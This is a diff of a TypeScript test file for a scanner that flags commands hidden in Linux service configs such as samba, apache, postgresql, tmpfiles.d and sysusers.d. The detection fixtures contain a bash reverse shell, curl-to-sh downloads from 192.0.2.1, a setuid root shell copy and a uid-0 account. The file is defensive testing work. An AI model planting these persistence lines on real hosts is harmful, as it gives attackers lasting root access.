@@ -3,6 +3,7 @@ import { describe, expect, test } from 'vitest';
 import { daemonSettings } from '../../source/checks/daemon-settings.ts';
 import { packageSources } from '../../source/checks/package-sources.ts';
 import { fail2banForms, perlForms, rsyslogForms, settingCommands, snmpForms, sysctlForms } from '../../source/parsers/daemon-settings.ts';
+import * as services from '../../source/parsers/service-settings.ts';
 import { isNearby, parseSourcesList, parseSourceStanzas } from '../../source/parsers/package-sources.ts';
 import { debian } from '../support/debian.ts';
 import { memoryHost, type Machine } from '../support/memory-host.ts';
@@ -20,7 +21,24 @@ describe('commands in settings', () => {
 		expect(settingCommands(Buffer.from('actionban = iptables -I <chain>\nactname = x\n'), fail2banForms)).toMatchObject([{ command: 'iptables -I <chain>' }]);
 	});
 
+	test('what packages and people write there is ordinary', () => {
+		expect(
+			loud({
+				'/etc/tmpfiles.d/own.conf': 'd /run/app 2755 www-data www-data - -\nz /var/log/journal 2755 root systemd-journal - -\nf /run/x 0644 root root - text\nL+ /etc/mtab - - - - ../proc/self/mounts\n',
+				'/etc/sysusers.d/own.conf': 'u app - "App" /opt/app\nu root 0 "Super User" /root\ng adm 4\n',
+				'/etc/postfix/master.cf': 'maildrop unix - n n - - pipe\n  flags=DRXhu user=vmail argv=/usr/bin/logger -d ${recipient}\n',
+				'/etc/samba/smb.conf': '[global]\n\tpanic action = /usr/share/samba/panic-action %d\n',
+				'/etc/apache2/sites-enabled/x.conf': 'CustomLog ${APACHE_LOG_DIR}/access.log combined\nErrorLog "|/usr/bin/logger -t apache"\n',
+				'/etc/shells': '# shells\n/bin/sh\n/bin/bash\n/usr/bin/zsh\n',
+				'/etc/crypttab': 'x /dev/sdb1 none luks\n',
+				'/etc/supervisor/conf.d/own.conf': '[program:own]\ncommand=/usr/local/bin/own --serve\n',
+			}),
+		).toEqual([]);
+	});
+
 	test('random text is taken', () => {
+		fc.assert(fc.property(fc.uint8Array({ maxLength: 300 }), bytes => void Object.values(services).map(forms => settingCommands(bytes, forms))));
+		fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'uCf /04755~"\\|=*\n') }), text => void Object.values(services).map(forms => settingCommands(Buffer.from(text), forms))));
 		fc.assert(fc.property(fc.uint8Array({ maxLength: 400 }), bytes => void settingCommands(bytes, [...rsyslogForms, ...snmpForms, ...perlForms, ...sysctlForms])));
 		const hard = Buffer.from(`a ${'"x" '.repeat(2000)}\n`);
 		expect(settingCommands(hard, rsyslogForms)).toEqual([]);
@@ -45,6 +63,12 @@ describe('commands in settings', () => {
 		['a ban', { '/etc/fail2ban/action.d/a.local': "[Definition]\nactionstart = /bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4 0>&1'\n" }, 'critical /etc/fail2ban/action.d/a.local'],
 		['a crash', { '/etc/sysctl.d/5.conf': 'kernel.core_pattern = |/usr/lib/.c/h %p\n' }, 'high /etc/sysctl.d/5.conf'],
 		['the first program', { '/etc/default/grub.d/5.cfg': 'GRUB_CMDLINE_LINUX="init=/sbin/.init"\n' }, 'high /etc/default/grub.d/5.cfg'],
+		['a share', { '/etc/samba/smb.conf': '[x]\n\troot preexec = sh -c "curl -s 192.0.2.1/s|sh"\n' }, 'high /etc/samba/smb.conf'],
+		['a piped log', { '/etc/apache2/conf-enabled/l.conf': 'CustomLog "|/var/tmp/.l" combined\n' }, 'high /etc/apache2/conf-enabled/l.conf'],
+		['a segment', { '/etc/postgresql/15/main/conf.d/a.conf': "archive_command = '/dev/shm/.a %p'\n" }, 'high /etc/postgresql/15/main/conf.d/a.conf'],
+		['a set-uid shell at boot', { '/etc/tmpfiles.d/x.conf': 'C /var/tmp/.s 4755 root root - /bin/sh\n' }, 'high /etc/tmpfiles.d/x.conf'],
+		['a job at boot', { '/etc/tmpfiles.d/y.conf': 'f+ /etc/cron.d/z 0644 root root - * * * * * root curl -s http://192.0.2.1/k | sh\n' }, 'high /etc/tmpfiles.d/y.conf'],
+		['an account at boot', { '/etc/sysusers.d/x.conf': 'u daemon2 0 "x" / /bin/sh\n' }, 'critical /etc/sysusers.d/x.conf'],
 	])('%s', (_name, machine, expected) => {
 		expect(loud(machine)).toEqual([expected]);
 	});
